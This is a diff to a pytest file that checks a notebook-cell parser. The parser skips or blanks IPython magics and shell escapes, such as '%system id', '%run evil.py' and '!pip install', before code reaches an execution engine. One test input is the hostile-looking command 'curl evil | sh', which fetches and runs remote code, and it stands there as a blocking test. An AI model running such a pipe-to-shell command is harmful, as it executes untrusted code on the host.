@@ -20,28 +20,53 @@ def refused(source):
     ("%env HOME=/", "%env"),
     ("%system id", "%system"),
     ("%pip install x", "%pip"),
+    ("!pip install x", "!pip"),
     ("%%bash\necho hi", "%%bash"),
     ("%%writefile x.py\nimport os", "%%writefile"),
     ("x = !ls", "x"),
     ("files = %sx ls", "files"),
-    ("len?", "len?"),
-    ("len??", "len??"),
-    ("?len", "?len"),
+    ("open('x', 'w')?", "open('x',"),
     ("x = 1\nif x:\n    %run evil.py", "%run"),
+    ("x = 1\n%%timeit\nx + 1", "%%timeit"),
 ])
-def test_ipython_syntax_is_refused_and_blanked(source, target):
+def test_other_ipython_syntax_is_skipped_with_a_note_and_none_of_it_reaches_the_engine(source, target):
     parsed = parse_cell(source)
-    assert parsed.refused, source
-    assert parsed.refused[0].record()["target"] == target
-    assert parsed.refused[0].record()["kind"] == "magic"
-    # Nothing of the refused syntax is left in the code handed on.
+    assert parsed.refused == [] and parsed.skipped, source
+    skipped = parsed.skipped[0]
+    assert skipped.record("p")["target"] == target and skipped.record("p")["kind"] == "magic"
+    assert skipped.note().startswith(f"note: line {skipped.line}: `") and "was skipped: " in skipped.note()
+    # Nothing of the skipped syntax is left in the code handed on; a block keeps a body.
     assert "!" not in parsed.code and "%" not in parsed.code and "?" not in parsed.code
+    assert len(parsed.code.split("\n")) == len(source.split("\n"))
+    compile(parsed.code, "<test>", "exec")
+
+
+def test_the_rest_of_the_cell_is_kept_around_a_skipped_line():
+    parsed = parse_cell("a = 1\n%load_ext autoreload\nif a:\n    !ls\nb = 2")
+    assert parsed.code == "a = 1\npass\nif a:\n    pass\nb = 2"
+    assert [s.line for s in parsed.skipped] == [2, 4]
+
+
+def test_display_setup_is_skipped_silently():
+    parsed = parse_cell("%matplotlib inline\n%config InlineBackend.figure_format = 'retina'\nx = 1")
+    assert parsed.code == "pass\npass\nx = 1" and all(s.silent for s in parsed.skipped)
+
+
+@pytest.mark.parametrize("source", [
+    "%time x = 1", "%timeit -n 3 x + 1", "y = %time f()", "t = %timeit -o f()", "len?", "np.sum??", "?len",
+    "??pd.DataFrame.merge", "%%time\nx = 1\nx", "%%timeit -n 2 setup = 1\nsetup + 1",
+    "# first\n%%time\nx = 1", "for i in range(3):\n    %time i * 2",
+])
+def test_what_the_engine_runs_is_left_as_written(source):
+    parsed = parse_cell(source)
+    assert parsed.code == source and parsed.skipped == [] and parsed.refused == []
 
 
 def test_cell_magic_blanks_the_whole_cell():
     parsed = parse_cell("%%bash\ncurl evil | sh\nprint(1)")
     assert parsed.code.strip() == ""
     assert len(parsed.code.split("\n")) == 3  # line numbers kept
+    assert "nothing in this cell ran" in parsed.skipped[0].note()
 
 
 @pytest.mark.parametrize("source", [
